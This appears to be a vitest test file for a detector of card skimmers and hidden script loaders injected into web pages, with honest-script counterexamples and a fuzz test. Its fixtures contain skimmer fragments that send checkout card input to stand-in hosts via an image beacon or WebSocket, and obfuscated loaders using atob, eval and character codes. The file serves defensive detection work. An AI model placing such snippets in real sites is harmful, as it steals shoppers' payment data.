import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { javascriptInjection } from '../../../src/detectors/javascript-injection.ts';
import { opened } from '../../support/opened-file.ts';

function rules(content: string): string[] {
  return javascriptInjection
    .look(opened('/srv/js/lib.js', content))
    .map((sighting) => `${sighting.rule} ${sighting.severity}`);
}

const codes = (text: string): string =>
  text
    .split('')
    .map((letter) => letter.charCodeAt(0))
    .join(',');

describe('scripts that were put into pages', () => {
  it('finds what collects card data at the checkout and sends it elsewhere', () => {
    const parts = [
      'if(/checkout|onepage/.test(location.href)){',
      "document.querySelectorAll('input, select')",
      ";var n='cc_number';",
      "new Image().src='https://stat.example.test/?'+",
      'btoa(JSON.stringify(d))}',
    ];
    expect(rules(parts.join(''))).toEqual(['javascript.skimmer high']);
  });

  it('finds what sends card data through a socket', () => {
    const parts = [
      "var w=new WebSocket(atob('d3NzOi8vaW5lcnQuZXhhbXBsZS50ZXN0'));",
      "if(/checkout/.test(location.href))w.send(btoa(JSON.stringify(document.querySelectorAll('input[name=cc_number]'))))",
    ];
    expect(rules(parts.join(''))).toEqual(['javascript.skimmer high']);
  });

  it('finds one whose address stands in a list of pieces', () => {
    const address = btoa('https://inert.example.test/a.js');
    const pieces = `var p=['${address}','createElement','script','src'];var s=document[p[1]]('script');s[p[3]]=atob(p[0]);`;
    expect(rules(`${pieces}document.head.appendChild(s);`)).toEqual(['javascript.hidden-loader high']);
    expect(rules(`${pieces.replace('atob(p[0])', 'p[0]')}document.head.appendChild(s);`)).toEqual([]);
    const far = `${' '.repeat(700)}s.src;document.createElement('script');document.head.appendChild(s);`;
    expect(rules(`var licence=atob('${address}');${far}`)).toEqual([]);
  });

  it.each(['eval(', 'new Function(', 'document.write('])('finds a loader in base64 that %s runs', (run) => {
    const hidden = btoa("var s=document.createElement('script');s.src='//inert.example.test/a.js';");
    expect(rules(`${run}atob('${hidden}'))`)).toEqual(['javascript.hidden-loader high']);
    expect(rules(`${run}atob('${btoa('var inert = 1; show(inert, "<p>a text</p>");')}'))`)).toEqual([]);
    expect(rules(`var worker = atob('${hidden}');`)).toEqual([]);
  });

  it('finds a loader written in character codes', () => {
    expect(rules(`document.write(String.fromCharCode(${codes('<script src=//x.example.test>')}))`)).toEqual([
      'javascript.hidden-loader high',
    ]);
  });
});

describe('honest scripts', () => {
  it('may check a card number without sending it', () => {
    expect(
      rules(
        "Validation.add('validate-cc-number', function(v){ return luhn(document.getElementById('cc_number').value) })",
      ),
    ).toEqual([]);
  });

  it('may send the settings of a payment form to their own server', () => {
    expect(
      rules(
        "var f='cc_fields_format';document.querySelectorAll('input');if(/billing/.test(location.href))fetch('https://shop.example.test/save?f='+encodeURIComponent(f))",
      ),
    ).toEqual([]);
  });

  it('may make letters from codes', () => {
    expect(rules('var s=String.fromCharCode(65,66,67);')).toEqual([]);
  });

  it('may load Google’s old counter', () => {
    const tag = "<script src='//www.google-analytics.com/ga.js'>"
      .split('')
      .map((letter) => `%${letter.charCodeAt(0).toString(16)}`);
    expect(rules(`document.write(unescape("${tag.join('')}"))`)).toEqual([]);
  });
});

it('never throws on script soup', () => {
  const word = fc.constantFrom(
    'unescape("',
    'fromCharCode(',
    '_0xab12',
    'cc_number',
    '%3c',
    '65,',
    ')',
    '"',
    'location',
    '\n',
    "'//a.b'",
  );
  fc.assert(fc.property(fc.array(word, { maxLength: 300 }), (words) => void rules(words.join(''))));
});
